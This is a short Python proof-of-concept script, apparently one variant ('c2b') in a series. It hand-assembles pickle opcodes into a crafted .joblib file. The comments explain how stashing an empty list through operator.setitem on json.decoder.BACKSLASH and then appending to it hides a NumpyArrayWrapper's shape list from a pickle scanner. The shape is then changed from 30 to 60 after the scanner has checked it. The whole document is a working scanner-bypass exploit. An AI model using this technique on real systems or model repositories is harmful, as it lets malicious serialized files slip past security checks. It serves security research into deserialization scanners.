# Like c2, but the stash is made by a call: operator.setitem(json.decoder.BACKSLASH, 'zz', Y)
# with Y an EMPTY memoized list (Y is "handed out", but holds nothing yet). The shape list L is
# then put into Y by an APPEND opcode: the scanner does not count what is added to a handed-out
# container afterwards as handed out. operator.getitem(operator.getitem(BACKSLASH,'zz'),0) is L
# to Python; operator.setitem(that, 0, 60) changes the wrapper's shape; the scanner keeps [30].
from common import *
def BINPUT(i): return b'q'+bytes([i])
def BINGET(i): return b'h'+bytes([i])
D = G('json.decoder','BACKSLASH')
GI = lambda *a: G('operator','getitem') + b'(' + b''.join(a) + b'tR'
hdr = b'\x80\x02'
hdr += G('operator','setitem') + b'(' + D + U('zz') + b']' + BINPUT(2) + b'tR0'     # stash Y (memo 2)
hdr += BINGET(2) + b']' + BINPUT(1) + I(30) + b'a' + b'a0'                           # Y.append(L); L=[30] memo 1
hdr += G('operator','setitem') + b'(' + GI(GI(D, U('zz')), I(0)) + I(0) + I(60) + b'tR0'
hdr += G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + BINGET(1) + U('C') + dtype('u1') + b'\x89NtR}b'
run('c2b_stash_then_append.joblib', hdr + region(60, [0, 30]))
